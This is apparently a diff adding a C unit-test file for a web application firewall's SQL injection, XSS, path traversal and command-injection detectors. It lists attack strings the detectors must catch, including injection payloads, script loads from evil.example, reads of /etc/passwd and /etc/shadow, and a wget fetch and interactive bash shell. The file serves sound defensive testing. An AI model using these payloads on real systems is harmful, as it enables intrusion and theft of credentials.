@@ -1,0 +1,290 @@
+/*
+ * Unit tests of the WAF's detectors (common/waf_sqli.c, waf_xss.c,
+ * waf_shell.c): attacks each must find, natural text none may flag at
+ * paranoia 1, and the edge cases: empty, one byte, NUL bytes, invalid
+ * UTF-8, and 1 MiB inputs that must take linear time.
+ */
+#include "../../common/waf_detect.h"
+#include "tap.h"
+
+#include <stdlib.h>
+#include <time.h>
+
+#define NELEMS(a) (sizeof(a) / sizeof((a)[0]))
+
+static const struct {
+    const char *name;
+    bn_waf_detect_fn fn;
+} detectors[] = {
+    { "sqli", bn_waf_sqli },
+    { "xss", bn_waf_xss },
+    { "traversal", bn_waf_traversal },
+    { "cmdi", bn_waf_cmdi },
+};
+
+#define NDET (sizeof(detectors) / sizeof(detectors[0]))
+
+static const char *const sqli_attacks[] = {
+    "' or '1'='1",
+    "1' or '1'='1",
+    "' or 1=1--",
+    "admin'--",
+    "admin' #",
+    "\" or \"\"=\"",
+    "') or ('a'='a",
+    "1 or 1=1",
+    "-1 union select 1,2,3",
+    "1 UNION ALL SELECT NULL,NULL,NULL--",
+    "' union select username, password from users--",
+    "1; drop table users",
+    "'; exec master..xp_cmdshell 'ping 10.0.0.1'--",
+    "1 and sleep(5)",
+    "sleep(5)#",
+    "benchmark(10000000,md5(1))",
+    "1' and (select * from (select(sleep(5)))a)--",
+    "1' order by 1--+",
+    "1 waitfor delay '0:0:5'--",
+    "' and extractvalue(1,concat(0x7e,version()))--",
+    "1+or+1=1",
+    "1/*!50000union*/select 1,2",
+    "SELECT * FROM users WHERE id = 1",
+    "@@version",
+    "1 and ascii(substring((select user()),1,1))>64",
+};
+
+static const char *const xss_attacks[] = {
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<body onload=alert('x')>",
+    "<a href=\"javascript:alert(1)\">x</a>",
+    "<a href=\"jav\tascript:alert(1)\">x</a>",
+    "<iframe src=\"data:text/html;base64,PHNjcmlwdD4=\">",
+    "<object data=x.swf>",
+    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+    "<div style=\"width:expression(alert(1))\">",
+    "';alert(1)//",
+    "\"-alert(1)-\"",
+    "'};top['al'+'ert'](1);{'",
+    "${alert(1)}",
+    "{{constructor.constructor('alert(1)')()}}",
+    "javascript:alert(document.cookie)",
+    "\" onmouseover=\"alert(1)",
+    "</script><script>alert(1)</script>",
+    "<x a='<img src=x onerror=alert(1)>'>",
+};
+
+static const char *const traversal_attacks[] = {
+    "../../etc/passwd",
+    "..\\..\\windows\\win.ini",
+    "....//....//etc/passwd",
+    "..;/..;/WEB-INF/web.xml",
+    "/etc/shadow",
+    "/proc/self/environ",
+    "c:\\boot.ini",
+    "file:///etc/passwd",
+    "php://filter/convert.base64-encode/resource=index.php",
+    "/var/www/../../etc/passwd",
+    "..\\/..//x",
+    "0x2e0x2e0x2fboot.ini",
+};
+
+static const char *const cmdi_attacks[] = {
+    ";id",
+    "; cat /etc/passwd",
+    "| whoami",
+    "&& uname -a",
+    "`id`",
+    "$(whoami)",
+    "x;c'a't${IFS}/etc/passwd",
+    "a|/?\?\?/c?t /etc/passwd",
+    "; sleep 5",
+    "\nwget http://evil.example/x.sh",
+    "& net user",
+    "| powershell -enc AAAA",
+    "{cat,/etc/passwd}",
+    "127.0.0.1 && ping -c 3 10.0.0.1",
+    "a; /bin/bash -i",
+    "& FOR /F %a IN ('dir') DO echo %a",
+};
+
+/* Natural text none of the detectors may flag at paranoia 1. */
+static const char *const benign[] = {
+    "O'Brien",
+    "Rock 'n' roll",
+    "select the best union of ideas",
+    "drop me a line",
+    "I'd like 1 or 2",
+    "Please select one from the list below",
+    "the workers' union",
+    "Tom and Jerry",
+    "It's 5 -- maybe 6",
+    "a < b",
+    "<3",
+    "I <3 you",
+    "x<y and y>z",
+    "if a<b then c>d",
+    "cats; cat food is great",
+    "R&D and AT&T",
+    "id",
+    "sleep",
+    "curl",
+    "Wait.../what",
+    "see the docs...",
+    "javascript: the good parts",
+    "online=yes",
+    "5'10\" tall",
+    "Q&A: why do birds sing?",
+    "He said \"hello\" and left; then ran.",
+    "Use (parentheses) sparingly",
+    "email me: john.doe@example.com",
+    "C++ and C# are languages",
+    "price: $5 (incl. tax)",
+    "the students' and teachers' union",
+    "I'm not sure; what do you think?",
+    "Sam",
+    "2 + 2 = 4",
+};
+
+static bool
+any_match(const char *s, size_t n, bn_waf_detect_t *m, const char **which)
+{
+    for (size_t k = 0; k < NDET; k++) {
+        if (detectors[k].fn(s, n, 1, m)) {
+            *which = detectors[k].name;
+            return true;
+        }
+    }
+    return false;
+}
+
+static void
+check_list(const char *const *list, size_t count, bn_waf_detect_fn fn, const char *name)
+{
+    bn_waf_detect_t m;
+
+    for (size_t i = 0; i < count; i++) {
+        bool hit = fn(list[i], strlen(list[i]), 1, &m);
+        char shown[128];
+        size_t k;
+
+        /* TAP lines cannot hold a newline. */
+        for (k = 0; list[i][k] != '\0' && k < sizeof(shown) - 1; k++) {
+            shown[k] = (unsigned char) list[i][k] < ' ' ? '?' : list[i][k];
+        }
+        shown[k] = '\0';
+        ok(hit && m.reason != NULL && strlen(m.fingerprint) < sizeof(m.fingerprint),
+           "%s finds %s (%s [%s])", name, shown, hit ? m.reason : "no match",
+           hit ? m.fingerprint : "");
+    }
+}
+
+static double
+seconds(void)
+{
+    struct timespec ts;
+
+    clock_gettime(CLOCK_MONOTONIC, &ts);
+    return (double) ts.tv_sec + (double) ts.tv_nsec / 1e9;
+}
+
+/* Each detector on 1 MiB of pattern repeated, and on 2 MiB: the time may
+ * grow about twice, not four times; and the whole stays well under a second
+ * even in a sanitizer build. */
+static void
+check_linear(const char *pattern)
+{
+    size_t plen = strlen(pattern), big = 2u << 20;
+    char *buf = malloc(big);
+    bn_waf_detect_t m;
+
+    if (buf == NULL) {
+        ok(0, "malloc");
+        return;
+    }
+    for (size_t i = 0; i < big; i++) {
+        buf[i] = pattern[i % plen];
+    }
+    for (size_t k = 0; k < NDET; k++) {
+        double t0 = seconds(), t1, t2;
+
+        detectors[k].fn(buf, big / 2, 4, &m);
+        t1 = seconds() - t0;
+        t0 = seconds();
+        detectors[k].fn(buf, big, 4, &m);
+        t2 = seconds() - t0;
+        ok(t2 < 2.0 && t2 < 6 * t1 + 0.02, "%s on 1 MiB then 2 MiB of \"%s\": %.4f s, %.4f s",
+           detectors[k].name, pattern, t1, t2);
+    }
+    free(buf);
+}
+
+int
+main(void)
+{
+    bn_waf_detect_t m;
+    const char *which;
+
+    check_list(sqli_attacks, NELEMS(sqli_attacks), bn_waf_sqli, "sqli");
+    check_list(xss_attacks, NELEMS(xss_attacks), bn_waf_xss, "xss");
+    check_list(traversal_attacks, NELEMS(traversal_attacks), bn_waf_traversal, "traversal");
+    check_list(cmdi_attacks, NELEMS(cmdi_attacks), bn_waf_cmdi, "cmdi");
+
+    for (size_t i = 0; i < NELEMS(benign); i++) {
+        bool hit = any_match(benign[i], strlen(benign[i]), &m, &which);
+
+        ok(!hit, "benign: %s%s%s", benign[i], hit ? " flagged by " : "", hit ? which : "");
+        if (hit) {
+            printf("#   %s [%s]\n", m.reason, m.fingerprint);
+        }
+    }
+
+    /* Paranoia: a shape that level 1 lets through and level 2 flags. */
+    ok(!bn_waf_sqli("1 or 2", 6, 1, &m) && bn_waf_sqli("1 or 2", 6, 2, &m),
+       "sqli: \"1 or 2\" only at paranoia 2");
+    ok(!bn_waf_xss("alert(1)", 8, 1, &m) && bn_waf_xss("alert(1)", 8, 2, &m),
+       "xss: a bare alert(1) only at paranoia 2");
+    ok(!bn_waf_cmdi("whoami", 6, 1, &m) && bn_waf_cmdi("whoami", 6, 2, &m),
+       "cmdi: a bare whoami only at paranoia 2");
+    ok(bn_waf_sqli("' or 1=1--", 10, 0, &m) && bn_waf_sqli("' or 1=1--", 10, 99, &m),
+       "paranoia 0 reads as 1 and 99 as 4");
+
+    /* Edge cases: no detector matches nothing, and a miss leaves m empty. */
+    for (size_t k = 0; k < NDET; k++) {
+        m.reason = "stale";
+        strcpy(m.fingerprint, "stale");
+        ok(!detectors[k].fn("", 0, 1, &m) && m.reason == NULL && m.fingerprint[0] == '\0',
+           "%s: empty input, no match, m cleared", detectors[k].name);
+        ok(!detectors[k].fn("'", 1, 4, &m), "%s: a lone quote",
+           detectors[k].name);
+        ok(!detectors[k].fn("<", 1, 4, &m) && !detectors[k].fn(".", 1, 4, &m)
+               && !detectors[k].fn(";", 1, 4, &m) && !detectors[k].fn("\0", 1, 4, &m),
+           "%s: single bytes", detectors[k].name);
+        ok(!detectors[k].fn("\xff\xfe\xc0\xaf\xed\xa0\x80", 7, 4, &m),
+           "%s: invalid UTF-8 alone", detectors[k].name);
+    }
+    ok(bn_waf_sqli("1' or\0 '1'='1", 13, 1, &m), "sqli: a NUL byte splits tokens as a blank");
+    ok(bn_waf_xss("<img\0 src=x onerror=alert(1)>", 30, 1, &m),
+       "xss: a NUL byte inside a tag is a blank");
+    ok(bn_waf_traversal("/etc/passwd\0.png", 16, 1, &m), "traversal: NUL truncation");
+    ok(bn_waf_traversal("../x.php\0.jpg", 13, 1, &m), "traversal: dot-dot then NUL");
+    ok(bn_waf_xss("\xff<script>\xfe", 10, 1, &m), "xss: a tag between invalid UTF-8 bytes");
+    ok(bn_waf_sqli("\xc3' or 1=1-- \xff", 13, 1, &m), "sqli: an attack in invalid UTF-8");
+    {
+        static const char fp_at_end[] = "a/..";
+
+        ok(bn_waf_traversal(fp_at_end, 4, 1, &m) && strcmp(m.fingerprint, "..") == 0,
+           "traversal: a trailing /.. and its fingerprint stays inside the value");
+    }
+
+    check_linear("'");
+    check_linear("(");
+    check_linear("<a b='");
+    check_linear("; ");
+    check_linear("../");
+    check_linear("' or (");
+    check_linear("<<script");
+    check_linear("$(c'a");
+    return done_testing();
+}
